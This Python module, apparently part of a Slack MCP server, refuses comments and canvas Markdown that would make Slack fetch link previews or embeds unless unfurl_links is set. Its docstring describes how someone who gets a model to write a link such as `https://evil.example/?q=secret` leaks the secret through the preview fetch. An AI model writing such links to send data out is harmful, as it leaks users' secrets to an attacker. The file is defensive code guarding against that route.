"""Previews that Slack fetches by itself: of links in a text for which it has no switch.

Whoever gets a model to write `https://evil.example/?q=secret` learns the secret when Slack looks for a preview, so that
such a text is refused unless the caller says that it is meant.
"""

import re
from typing import Final

from slack_mcp.core.errors import InvalidInputError

# A scheme, `www.`, or a host with something behind it: what Slack makes a link of.
_LINK: Final = re.compile(r"://|\bwww\.|[\w-]\.[a-z]{2,}[/?]\S", re.IGNORECASE)
# In a canvas `![](…)` embeds a page or an image, and `![](@U…)`, `![](#C…)` name a person or a channel.
# https://docs.slack.dev/surfaces/canvases. The bounds keep the search linear.
_MENTION: Final = re.compile(r"!\[[^\[\]\n]{0,100}\]\([@#][A-Z0-9]{1,30}\)")
_PARAGRAPH_END: Final = re.compile(r"\n[ \t]*\n")
_TARGET: Final = re.compile(r"\][(\[]")
_DEFINITION: Final = re.compile(r"^ {0,3}\[[^\[\]\n]{1,200}\]:", re.MULTILINE)


def check_comment(text: str | None, *, unfurl_links: bool) -> None:
    """Return when a file's comment makes Slack fetch nothing, or may; raises InvalidInputError."""
    if text is not None and not unfurl_links and _LINK.search(text):
        raise InvalidInputError(
            "initial_comment: Slack shows a preview of every link beside a file, and fetches it for that. Send the "
            "text with SLACK_SEND_MESSAGE, or set unfurl_links to true when the preview is meant."
        )


def check_markdown(text: str | None, *, unfurl_links: bool) -> None:
    """Return when a canvas's Markdown makes Slack fetch nothing, or may; raises InvalidInputError."""
    if text is not None and not unfurl_links and _embeds(text):
        raise InvalidInputError(
            "markdown: Slack fetches what `![](…)` embeds. Write a plain link [label](https://…), or set unfurl_links "
            "to true when the embedding is meant."
        )


def _embeds(markdown: str) -> bool:
    """Tell whether Markdown may embed something: rather too often than once too few."""
    rest = _MENTION.sub("", markdown)
    marked = [part for each in _PARAGRAPH_END.split(rest) if (part := each.partition("![")[2])]
    return any(_TARGET.search(part) for part in marked) or bool(marked and _DEFINITION.search(rest))
